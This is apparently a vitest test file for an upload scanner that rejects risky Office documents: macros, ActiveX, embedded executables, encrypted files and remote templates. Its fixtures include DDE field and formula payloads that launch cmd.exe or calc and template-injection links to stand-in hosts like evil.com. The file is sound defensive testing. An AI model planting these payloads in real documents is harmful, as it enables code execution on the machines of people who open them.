import { describe, expect, it } from 'vitest';
import type { UploadRefusal } from '#lib/platform/storage/refusals.ts';
import { checker } from '#lib/platform/storage/testing/check.ts';
import {
  compoundFile,
  ooxmlEntries,
  packedFile,
  relation,
  wordStream,
  zip,
} from '#lib/platform/storage/testing/samples.ts';
import { COMPOUND_SIGNATURE } from './compound-file.ts';

const { check } = checker();

describe('Office packages', () => {
  const withMore = (
    kind: 'docx' | 'xlsx' | 'pptx',
    options: Parameters<typeof ooxmlEntries>[1],
    ...more: string[]
  ) => zip([...ooxmlEntries(kind, options), ...more.map((name) => ({ name, data: 'x' }))]);
  const TEMPLATE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml';
  const docx = (body: string) =>
    zip([...ooxmlEntries('docx'), { name: 'word/header1.xml', data: `<w:hdr xmlns:w="w">${body}</w:hdr>` }]);
  const field = (...pieces: string[]) => {
    const mark = (type: string) => `<w:fldChar w:fldCharType="${type}"/>`;
    const text = pieces.map((piece) =>
      piece.startsWith('<') ? piece : `<w:instrText>${piece.replaceAll('"', '&quot;')}</w:instrText>`,
    );
    return `${mark('begin')}${text.join('')}${mark('separate')}${mark('end')}`;
  };
  const withXml = (kind: 'docx' | 'xlsx', name: string, xml: string) =>
    zip([...ooxmlEntries(kind), { name, data: `<a>${xml}</a>` }]);
  const sheet = (formula: string) =>
    zip([
      ...ooxmlEntries('xlsx'),
      { name: 'xl/worksheets/sheet1.xml', data: `<worksheet><c><f>${formula}</f></c></worksheet>` },
    ]);
  const embedded = (object: Buffer | string) =>
    zip([...ooxmlEntries('docx'), { name: 'word/embeddings/oleObject1.bin', data: object }]);
  const override = (type: string) => `<Override PartName="/word/any.bin" ContentType="${type}"/>`;

  it.each<[string, Buffer, UploadRefusal]>([
    ['a VBA project', withMore('docx', {}, 'word/vbaProject.bin'), 'macros'],
    ['a VBA project in capitals', withMore('xlsx', {}, 'XL/VBAPROJECT.BIN'), 'macros'],
    [
      'a VBA project under another name, by content type',
      withMore('docx', { types: override('application/vnd.ms-office.vbaProject') }, 'word/any.bin'),
      'macros',
    ],
    [
      'a content type written with character references',
      withMore('docx', { types: override('application/vnd.ms-office.vb&#97;Projec&#x74;') }, 'word/any.bin'),
      'macros',
    ],
    [
      'a VBA project under another name, by relation',
      zip(ooxmlEntries('docx', { relations: relation('vbaProject', 'any.bin') })),
      'macros',
    ],
    [
      'a macro-enabled main part',
      zip(ooxmlEntries('docx', { mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' })),
      'macros',
    ],
    ['an Excel 4 macro sheet', withMore('xlsx', {}, 'xl/macrosheets/sheet1.xml'), 'macros'],
    ['a macro-enabled document inside', withMore('pptx', {}, 'ppt/embeddings/Sheet.xlsm'), 'macros'],
    [
      'a field that starts a program, in pieces',
      docx(field('D', 'DEA', 'UTO c:\\\\cmd.exe "/k calc"')),
      'command',
    ],
    ['a simple field', docx('<w:fldSimple w:instr=" DDE cmd /k "/>'), 'command'],
    ['a field inside a field', docx(field('IF ', field(' dde x y'))), 'command'],
    ['a field that spells its command in numbers', docx(field(' QUOTE 68 68 69 65 ')), 'command'],
    [
      'a link that starts a program',
      zip([
        ...ooxmlEntries('xlsx'),
        {
          name: 'xl/externalLinks/externalLink1.xml',
          data: '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        },
      ]),
      'command',
    ],
    ['a formula that starts a program', sheet("cmd|'/c calc'!A0"), 'command'],
    ['the same formula, written with character references', sheet("cmd&#124;'/c calc'!A0"), 'command'],
    [
      'a slide that starts a program',
      zip([
        ...ooxmlEntries('pptx'),
        { name: 'ppt/slides/slide1.xml', data: '<p:sld><a:hlinkClick action="ppaction://program"/></p:sld>' },
      ]),
      'command',
    ],
    [
      'a field in a CDATA section',
      docx(field('<w:instrText><![CDATA[DDEAUTO c]]></w:instrText>')),
      'command',
    ],
    ['a field under another prefix', docx('<x:fldSimple x:instr="DDEAUTO c"/>'), 'command'],
    [
      'a field in a part of any name',
      withXml('docx', 'a/b.bin', '<w:fldSimple w:instr="DDEAUTO c"/>'),
      'command',
    ],
    ['a formula in a CDATA section', sheet("<![CDATA[cmd|'/c calc'!A0]]>"), 'command'],
    [
      'a formula in a sheet of any name',
      withXml('xlsx', 'xl/ws/s.xml', "<f>cmd|'/c calc'!A0</f>"),
      'command',
    ],
    [
      'a name for a formula that starts a program',
      withXml('xlsx', 'xl/a.xml', "<definedName>cmd|'/c'!A</definedName>"),
      'command',
    ],
    [
      'a rule with the same formula',
      withXml('xlsx', 'xl/a.xml', "<formula1>cmd|'/c'!A</formula1>"),
      'command',
    ],
    [
      'a program under any name',
      zip([...ooxmlEntries('xlsx'), { name: 'xl/objects/a.dat', data: 'MZ\x90' }]),
      'program',
    ],
    [
      'a packed program under any name',
      zip([...ooxmlEntries('docx'), { name: 'a/b', data: packedFile('a.exe', 'MZ') }]),
      'program',
    ],
    ...[
      '//evil.com/x.dotm',
      'file:////evil.com/x.dotm',
      '\\\\evil@SSL\\dav\\x.dotm',
      'ht&#9;tp://evil/x.dotm',
    ].map((target): [string, Buffer, UploadRefusal] => [
      `a template at ${target}`,
      zip(ooxmlEntries('docx', { relations: relation('attachedTemplate', target, true) })),
      'fetched',
    ]),
    ['a packed program', embedded(packedFile('setup.exe', 'MZ')), 'program'],
    ['a packed program under another name', embedded(packedFile('letter.txt', 'MZ\x90')), 'program'],
    ['a packed macro document', embedded(packedFile('budget.xlsm', 'PK')), 'macros'],
    ['a program in place of an object', embedded('MZ\x90\0'), 'program'],
    [
      'macros in an object',
      embedded(compoundFile({ WordDocument: wordStream() }, ['Macros', 'VBA'])),
      'macros',
    ],
    ['an ActiveX control', withMore('docx', {}, 'word/activeX/activeX1.xml'), 'controls'],
    ['a program inside', withMore('docx', {}, 'word/embeddings/setup.exe'), 'program'],
    [
      'a template from the network',
      zip(
        ooxmlEntries('docx', {
          relations: relation('attachedTemplate', 'https://evil.example/t.dotm', true),
        }),
      ),
      'fetched',
    ],
    [
      'an object from the network',
      zip(ooxmlEntries('docx', { relations: relation('oleObject', 'mhtml:https://evil.example/x!x', true) })),
      'fetched',
    ],
    [
      'an entity',
      zip([
        { name: '[Content_Types].xml', data: '<!DOCTYPE a [<!ENTITY b "c">]><Types/>' },
        ...ooxmlEntries('docx').slice(1),
      ]),
      'content-mismatch',
    ],
    ['no list of content types', zip(ooxmlEntries('docx').slice(1)), 'content-mismatch'],
    [
      'no main part',
      zip(ooxmlEntries('docx').filter((entry) => entry.name !== 'word/document.xml')),
      'content-mismatch',
    ],
    [
      'a password',
      compoundFile({ EncryptionInfo: Buffer.alloc(5000), EncryptedPackage: Buffer.alloc(5000) }),
      'encrypted',
    ],
  ])('with %s are refused', async (_, content, reason) => {
    const kind =
      content.includes('xl/') || content.includes('XL/')
        ? 'xlsx'
        : content.includes('ppt/')
          ? 'pptx'
          : 'docx';
    expect(await check(kind, content)).toBe(reason);
  });

  it.each<[string, Buffer]>([
    ['a field that counts pages', docx(field(' PAGE '))],
    [
      'a picture with entities, from a drawing program',
      zip([
        ...ooxmlEntries('docx'),
        { name: 'word/media/a.svg', data: '<!DOCTYPE svg [<!ENTITY n "http://x">]><svg xmlns="&n;"/>' },
      ]),
    ],
    ['a part that is not XML and has no active content', docx('<a b></c>&nothing;')],
    ['words about DDE', docx('<w:t>DDEAUTO c:\\\\cmd.exe</w:t>')],
    ['a field with text about DDE', docx(field(' HYPERLINK "https://example.org/DDE" '))],
    ['a formula that joins strings', sheet('A1&amp;"|"&amp;B1')],
    ['a sheet with a bar in its name', sheet("'a|b'!A1")],
    ['a column with a bar in its name', sheet('Table1[a|b]')],
    ['a packed text', embedded(packedFile('letter.txt', 'Dear'))],
    ['a packed picture', embedded(packedFile('photo.com.jpg', '\xff\xd8\xff'))],
    ['an object that cannot be opened', embedded(Buffer.concat([COMPOUND_SIGNATURE, Buffer.alloc(600)]))],
    ['a template as its main part', zip(ooxmlEntries('docx', { mainType: TEMPLATE }))],
    [
      'a chart of a workbook on the web',
      zip([
        ...ooxmlEntries('pptx'),
        {
          name: 'ppt/charts/_rels/chart1.xml.rels',
          data: `<Relationships>${relation('oleObject', 'https://council.sharepoint.com/a.xlsx', true)}</Relationships>`,
        },
      ]),
    ],
  ])('with %s is taken', async (_, content) => {
    const kind = content.includes('xl/') ? 'xlsx' : content.includes('ppt/') ? 'pptx' : 'docx';
    expect(await check(kind, content)).toBeNull();
  });

  it('may name a template on a file share and link to web pages', async () => {
    const relations =
      relation('attachedTemplate', 'file:///\\\\server\\templates\\Council.dotx', true) +
      relation('attachedTemplate', '\\\\files.exampleshire.gov.uk\\templates\\Council.dotx', true) +
      relation('attachedTemplate', 'file:///C:/Users/a.b/Templates/Council.dotx', true) +
      relation('hyperlink', 'https://www.cqc.org.uk/', true);
    expect(await check('docx', zip(ooxmlEntries('docx', { relations })))).toBeNull();
  });

  it('may have lists in UTF-16, which are read', async () => {
    const utf16 = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le');
    const [types, ...rest] = ooxmlEntries('docx', {
      types: override('application/vnd.ms-office.vbaProject'),
    });
    expect(
      await check('docx', zip([{ name: types?.name ?? '', data: utf16(String(types?.data)) }, ...rest])),
    ).toBe('macros');
  });
});
